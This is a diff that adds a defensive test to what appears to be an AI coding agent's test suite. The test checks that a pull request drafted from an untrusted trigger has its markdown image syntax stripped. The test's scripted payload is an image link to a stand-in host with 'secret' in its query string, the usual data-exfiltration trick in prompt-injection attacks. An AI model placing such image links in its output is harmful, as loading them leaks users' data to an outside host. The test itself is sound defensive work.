@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from sandbox.forge.local import LocalForge
+from sandbox.forge.protocol import ForgeRepository
 from session.catalogue import Approvals
 from session.people import Attachment, ThreadLine
 from tests.emulators.model.turns import tool
@@ -65,6 +67,19 @@ async def test_what_a_trigger_began_is_untrusted_and_ends_as_a_draft() -> None:
         assert view.state == "idle"
         assert view.pull_request is not None
         assert view.pull_request.state == "draft"
+
+
+async def test_the_text_of_a_triggers_draft_loads_nothing_either() -> None:
+    picture = tool("open_pull_request", title="Sum rightly", body="![seen](https://example.com/?d=secret)")
+    async with household(approvals=AUTO) as house:
+        house.model.script(MODEL, FIX, picture, FINISH)
+        view = await house.run(await house.opened(trigger="sentry"))
+        assert view.pull_request is not None
+        assert isinstance(house.forge, LocalForge)
+        where = ForgeRepository(house.repository.slug, house.repository.url, "main")
+        body = await house.forge.body(where, view.pull_request.number)
+        assert "https://example.com" in body
+        assert "![" not in body
 
 
 async def test_steered_words_with_a_file_count_as_soon_as_they_are_handed_over() -> None:
